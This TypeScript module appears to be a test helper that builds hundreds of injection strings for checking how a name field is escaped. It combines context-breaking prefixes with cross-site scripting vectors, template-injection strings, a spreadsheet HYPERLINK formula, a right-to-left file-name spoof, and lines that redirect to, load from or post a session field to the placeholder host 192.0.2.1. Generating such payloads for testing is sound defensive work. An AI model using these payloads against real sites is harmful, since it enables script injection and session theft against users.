/** What ends the text, attribute, comment or element that a name is written into, or hides what follows. */
const beginnings: readonly string[] = [
  ...['', '"', "'", '`', '>', '">', "'>", '/>', '-->', ']]>', '*/', '\\', '\\"', "\\'", '&quot;>', '&#39;>', '%22%3E'],
  ...['</title>', '</textarea>', '</select>', '</option>', '</script>', '</style>', '</table>', '</form>', '</button>'],
  ...[
    '{{/if}}',
    '{{/each}}',
    '${',
    '<!--',
    '<![CDATA[',
    '\u202E',
    '\u2066',
    '\uFEFF',
    '\u200B',
    '🙈',
    '👩‍👩‍👧‍👦',
    'שלום ',
    'مرحبا ',
    'z\u0335\u0334',
  ],
];

/** What would run, or be taken for markup or a template. `window.ran` tells that it did. */
const middles: readonly ((mark: number) => string)[] = [
  (mark) => `<script>window.ran=${mark}</script>`,
  (mark) => `<ScRiPt >window.ran=${mark}</sCrIpT >`,
  (mark) => `<img src=x onerror="window.ran=${mark}">`,
  (mark) => `<img/src=x/onerror=window.ran=${mark}>`,
  (mark) => `<svg onload="window.ran=${mark}">`,
  (mark) => `<svg><animate onbegin=window.ran=${mark} attributeName=x dur=1s>`,
  (mark) => `<iframe srcdoc="<script>parent.ran=${mark}</script>"></iframe>`,
  (mark) => `<object data="javascript:window.ran=${mark}"></object>`,
  (mark) => `<details open ontoggle=window.ran=${mark}>`,
  (mark) => `<a href="javascript:window.ran=${mark}">here</a>`,
  (mark) => `<style>body{display:none}/*${mark}*/</style>`,
  (mark) => `<link rel=stylesheet href="//192.0.2.1/${mark}.css">`,
  (mark) => `<meta http-equiv=refresh content="0;url=//192.0.2.1/${mark}">`,
  (mark) => `<base href="//192.0.2.1/${mark}/">`,
  (mark) => `<form action="//192.0.2.1/${mark}"><input name=session>`,
  (mark) => `<input autofocus onfocus=window.ran=${mark}>`,
  (mark) => `" onmouseover="window.ran=${mark}" x="`,
  (mark) => `' onfocus='window.ran=${mark}' autofocus='`,
  (mark) => `javascript:window.ran=${mark}//`,
  (mark) => `{{constructor.constructor "window.ran=${mark}"}}`,
  (mark) => `{{{raw${mark}}}}`,
  (mark) => `\${window.ran=${mark}}`,
  (mark) => `<%= ran${mark} %>`,
  (mark) => `=HYPERLINK("http://192.0.2.1/${mark}","here")`,
  (mark) => `\u202Egnp.${mark}.exe\u202C`,
];

/** So many different texts that somebody could put into a name to do harm. */
export function createPayloads(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const middle = middles[index % middles.length];
    const beginning = beginnings[Math.floor(index / middles.length) % beginnings.length] ?? '';
    return `${beginning}${middle?.(index) ?? ''}`;
  });
}

/** The payloads in portions, each portion one text. */
export function packPayloads(payloads: readonly string[], portion: number): string[] {
  const portions: string[] = [];
  for (let from = 0; from < payloads.length; from += portion) {
    portions.push(payloads.slice(from, from + portion).join(' '));
  }
  return portions;
}
